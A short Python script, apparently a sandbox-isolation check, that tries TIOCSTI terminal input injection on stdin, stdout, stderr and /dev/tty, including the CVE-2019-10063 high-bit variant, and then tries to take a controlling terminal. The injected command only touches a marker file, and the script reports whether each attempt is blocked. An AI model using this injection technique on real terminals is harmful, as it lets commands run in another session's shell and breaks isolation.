# Attack: TIOCSTI, pushing a command into a controlling terminal's input, on fds 0-2 and /dev/tty; also the
# request with junk in its upper 32 bits (CVE-2019-10063). Then train normally.
import ctypes
import fcntl
import os
import termios

libc = ctypes.CDLL(None, use_errno=True)
command = b"touch /tmp/__MARKER__\n"
fds = [0, 1, 2]
try:
    fds.append(os.open("/dev/tty", os.O_RDWR))
except OSError as exc:
    print("BLOCKED open /dev/tty", exc.errno, flush=True)
for fd in fds:
    for request in (termios.TIOCSTI, termios.TIOCSTI | (1 << 32)):
        pushed = 0
        for ch in command:
            byte = ctypes.c_char(bytes([ch]))
            if libc.ioctl(fd, ctypes.c_ulong(request), ctypes.byref(byte)) == 0:
                pushed += 1
        print("PUSHED" if pushed else "BLOCKED", "tiocsti fd", fd, hex(request), ctypes.get_errno(), flush=True)
try:
    fcntl.ioctl(0, termios.TIOCSCTTY, 1)
    print("GOT a controlling terminal", flush=True)
except OSError as exc:
    print("BLOCKED tiocsctty", exc.errno, flush=True)
#@train
